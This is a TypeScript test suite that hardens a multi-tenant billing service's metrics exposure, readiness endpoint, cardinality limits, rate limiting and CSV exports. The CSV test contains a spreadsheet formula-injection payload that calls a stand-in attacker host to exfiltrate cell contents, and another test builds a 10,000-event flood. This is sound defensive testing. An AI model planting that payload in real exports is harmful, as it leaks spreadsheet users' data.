/**
 * Issue #14 holes 2, 6 and 7 attacked against the running service over HTTP:
 *  - anonymous GET /metrics on the client port (every tenant's usage and cost) is 404 while the
 *    scrape-only listener serves it; /readyz never shows the database's own error text;
 *  - the cardinality POST (10,000 events with random 256-character tiers and models from one tenant
 *    token) is refused naming the field and adds no series; per-principal request limit;
 *  - CSV cells that a spreadsheet would run as formulas are neutralised in usage and invoice exports.
 */
import { randomBytes } from "node:crypto";
import { mkdtemp, writeFile } from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import pg from "pg";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { buildApp } from "../src/app";
import { newToken, StaticTokenAuthenticator } from "../src/auth/static";
import { loadConfig } from "../src/config";
import { csvCell } from "../src/export/csv";
import { freePort } from "../src/net/free-port";
import { startServer, type RunningServer } from "../src/server";
import { startBillingDb, TEST_PRICE_BOOK_YAML, testPriceBook, usageEvent, type BillingTestDb } from "./support/billing-db";

let db: BillingTestDb;
let server: RunningServer;
const admin = newToken("ops", { admin: true });
const acme = newToken("acme-sender", { tenant: "acme" });
const globex = newToken("globex-sender", { tenant: "globex" });
const auth = (token: string) => ({ authorization: `Bearer ${token}`, "content-type": "application/json" });
const usageSeries = (text: string): number => text.split("\n").filter((l) => l.startsWith("maas_billing_usage_")).length;

beforeAll(async () => {
  db = await startBillingDb();
  const dir = await mkdtemp(path.join(os.tmpdir(), "maas-billing-exposure-"));
  const tokensFile = path.join(dir, "tokens.yaml");
  await writeFile(tokensFile, `tokens:\n${[admin, acme, globex].map((t) => `  - ${JSON.stringify(t.entry)}\n`).join("")}`);
  const priceBook = path.join(dir, "pricebook.yaml");
  await writeFile(priceBook, TEST_PRICE_BOOK_YAML);
  server = await startServer(
    loadConfig(
      { databaseUrl: db.url, dataDir: dir, port: 0, metricsPort: 0, host: "127.0.0.1", tokensFile, priceBook, logLevel: "silent" },
      { MAAS_BILLING_MODELS: "mistral" },
    ),
  );
}, 120_000);

afterAll(async () => {
  await server?.close();
  await db?.stop();
});

describe("metrics only on the scrape-only listener", () => {
  it("anonymous /metrics on the client port is 404; the metrics port serves every tenant's series", async () => {
    const post = await fetch(`${server.url}/v1/events`, { method: "POST", headers: auth(acme.token), body: JSON.stringify({ events: [usageEvent({ id: "m1", tenant: "acme", inputTokens: 7 })] }) });
    expect(post.status).toBe(200);
    const client = await fetch(`${server.url}/metrics`);
    expect(client.status).toBe(404);
    expect(await client.text()).not.toContain("maas_billing_usage_tokens_total");
    const scraped = await fetch(`${server.metricsUrl}/metrics`);
    expect(scraped.status).toBe(200);
    expect(await scraped.text()).toContain('maas_billing_usage_tokens_total{tenant="acme"');
    // And the metrics listener serves nothing else (no API on the scrape port).
    expect((await fetch(`${server.metricsUrl}/v1/tenants/acme/usage`, { headers: auth(admin.token) })).status).toBe(404);
    expect(new URL(server.metricsUrl).port).not.toBe(new URL(server.url).port);
  });

  it("the metrics port must differ from the client port", () => {
    expect(() => loadConfig({ port: 8080, metricsPort: 8080 }, {})).toThrow(/MAAS_BILLING_METRICS_PORT \/ --metrics-port: must differ from PORT/);
  });
});

describe("/readyz", () => {
  it("says the database is unavailable without its error text", async () => {
    const port = await freePort(); // nothing listens there
    const pool = new pg.Pool({ connectionString: `postgres://billing:secret-password@127.0.0.1:${port}/billing`, connectionTimeoutMillis: 5000 });
    pool.on("error", () => {});
    const app = await buildApp({ pool, priceBook: testPriceBook, authenticator: new StaticTokenAuthenticator([]) });
    try {
      const res = await app.inject({ url: "/readyz" });
      expect(res.statusCode).toBe(503);
      expect(res.json()).toEqual({ status: "not ready", reason: "database unavailable" });
      expect(res.body).not.toMatch(/ECONNREFUSED|127\.0\.0\.1|billing/);
    } finally {
      await app.close();
      await pool.end();
    }
  });
});

describe("cardinality", () => {
  it("refuses the issue's POST: 10,000 events of random 256-character tiers and models from one tenant token", async () => {
    const before = await (await fetch(`${server.metricsUrl}/metrics`)).text();
    const random = () => randomBytes(192).toString("base64url").slice(0, 256);
    const events = Array.from({ length: 10_000 }, (_, i) => usageEvent({ id: `c${i}`, tenant: "acme", tier: random(), model: random(), inputTokens: 1 }));
    const body = JSON.stringify({ events });
    expect(body.length).toBeGreaterThan(2_800_000);
    const res = await fetch(`${server.url}/v1/events`, { method: "POST", headers: auth(acme.token), body });
    expect(res.status).toBe(400);
    const answer = (await res.json()) as { issues: Array<{ index: number; field: string; message: string }> };
    expect(answer.issues[0]).toMatchObject({ index: 0, field: "tier" });
    expect(answer.issues[0].message).toMatch(/unknown tier .*not one of premium/);
    expect(answer.issues.length).toBeLessThanOrEqual(20);
    expect(Number((await db.pool.query("select count(*) as n from usage_events where event_id like 'c%'")).rows[0].n)).toBe(0);
    const after = await (await fetch(`${server.metricsUrl}/metrics`)).text();
    expect(usageSeries(after)).toBe(usageSeries(before));
    expect(usageSeries(before)).toBeGreaterThan(0);
  }, 120_000);

  it("names the model field for an unknown model of a known tier, and accepts the listed models", async () => {
    const unknown = await fetch(`${server.url}/v1/events`, { method: "POST", headers: auth(acme.token), body: JSON.stringify({ events: [usageEvent({ id: "u1", tier: "premium", model: "not-a-model" })] }) });
    expect(unknown.status).toBe(400);
    expect(((await unknown.json()) as { issues: unknown[] }).issues).toEqual([{ index: 0, field: "model", message: expect.stringContaining("MAAS_BILLING_MODELS") }]);
    const listed = await fetch(`${server.url}/v1/events`, { method: "POST", headers: auth(acme.token), body: JSON.stringify({ events: [usageEvent({ id: "u2", tier: "premium", model: "mistral" })] }) });
    expect(listed.status).toBe(200);
    const check = await fetch(`${server.url}/v1/quota/check`, { method: "POST", headers: auth(acme.token), body: JSON.stringify({ tenant: "acme", tier: "x".repeat(200), model: "llama", dryRun: true }) });
    expect(check.status).toBe(400);
    expect(((await check.json()) as { issues: Array<{ field: string }> }).issues[0].field).toBe("tier");
  });

  it("limits requests per principal: past the limit 429 for that principal, others unaffected", async () => {
    const book = testPriceBook();
    const app = await buildApp({
      pool: db.pool,
      priceBook: () => book,
      authenticator: new StaticTokenAuthenticator([acme.entry, globex.entry]),
      limits: { requestsPerMinute: 5 },
    });
    const url = await app.listen({ port: 0, host: "127.0.0.1" });
    try {
      const get = (token: string, tenant: string) => fetch(`${url}/v1/tenants/${tenant}/usage?from=2026-04-01T00:00:00Z&to=2026-05-01T00:00:00Z`, { headers: auth(token) });
      const statuses: number[] = [];
      for (let i = 0; i < 7; i++) statuses.push((await get(acme.token, "acme")).status);
      expect(statuses).toEqual([200, 200, 200, 200, 200, 429, 429]);
      const limited = await get(acme.token, "acme");
      expect(Number(limited.headers.get("retry-after"))).toBeGreaterThan(0);
      expect((await get(globex.token, "globex")).status).toBe(200);
      // Health stays outside the limit (probes).
      for (let i = 0; i < 7; i++) expect((await fetch(`${url}/healthz`)).status).toBe(200);
    } finally {
      await app.close();
    }
  });
});

describe("CSV formula neutralisation", () => {
  it("a tenant-chosen user name starting with = reaches the usage CSV as text, numbers stay numbers", async () => {
    const evil = '=HYPERLINK("http://attacker.example/?"&A1,"click")';
    const post = await fetch(`${server.url}/v1/events`, { method: "POST", headers: auth(acme.token), body: JSON.stringify({ events: [usageEvent({ id: "x1", tenant: "acme", user: evil, time: "2026-06-01T00:00:00Z", inputTokens: 3 })] }) });
    expect(post.status).toBe(200);
    const csv = await (await fetch(`${server.url}/v1/tenants/acme/usage?from=2026-06-01T00:00:00Z&to=2026-07-01T00:00:00Z&groupBy=user&format=csv`, { headers: auth(acme.token) })).text();
    const row = csv.split("\n")[1];
    expect(row.startsWith(`acme,"'=HYPERLINK(""http://attacker.example/?""&A1,""click"")"`)).toBe(true);
    expect(csv.split("\n").some((line) => line.split(",").some((cell) => /^[=+@]/.test(cell)))).toBe(false);
  });

  it("neutralises = + - @ tab and CR at the start of a cell", () => {
    expect(csvCell("=1+1")).toBe(`"'=1+1"`);
    expect(csvCell("+cmd")).toBe(`"'+cmd"`);
    expect(csvCell("-2+3")).toBe(`"'-2+3"`);
    expect(csvCell("@SUM(A1)")).toBe(`"'@SUM(A1)"`);
    expect(csvCell("\t=x")).toBe(`"'\t=x"`);
    expect(csvCell("\r=x")).toBe(`"'\r=x"`);
    expect(csvCell("-120")).toBe("-120");
    expect(csvCell("-1.20")).toBe("-1.20");
    expect(csvCell("llama")).toBe("llama");
  });
});
